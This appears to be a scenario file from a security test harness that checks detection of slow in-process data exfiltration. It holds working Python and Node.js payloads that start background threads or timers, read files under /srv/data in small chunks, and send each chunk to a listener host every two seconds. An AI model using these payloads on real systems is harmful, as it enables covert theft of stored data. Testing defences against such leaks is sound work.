# SPDX-License-Identifier: Apache-2.0
"""A thread inside the service sends a little of its data every two seconds, for half a minute."""
import time

from attack import Listener

KIND = "slow data exfiltration inside the process"
QUIET = True
SECONDS = 30

THREAD = """
import threading
def leak():
    import time, socket
    for i in range({n}):
        with open("/srv/data/notes.db", "rb") as f:
            f.seek(500 * i)
            part = f.read(500)
        with socket.create_connection(("{me}", {port})) as s:
            s.sendall(part)
        time.sleep(2)
threading.Thread(target=leak, daemon=True).start()
"""

TIMER = """
const fs = require('fs'), net = require('net'); let i = 0;
const timer = setInterval(() => {{
  fs.readdir('/srv/data', (e, names) => fs.readFile('/srv/data/' + names[i % names.length], (e2, text) => {{
    const s = net.connect({port}, '{me}', () => s.end(String(text).slice(0, 500))); s.on('error', () => 0); }}));
  if (++i >= {n}) clearInterval(timer);
}}, 2000); 'started'
"""
SERVICES = {"python": THREAD, "node": TIMER}


def attack(t):
    listener = Listener()
    t.code(t.how.format(me=t.me, port=listener.port, n=SECONDS // 2))
    time.sleep(SECONDS + 2)
    return f"{len(listener.got)} bytes" if listener.got else ""
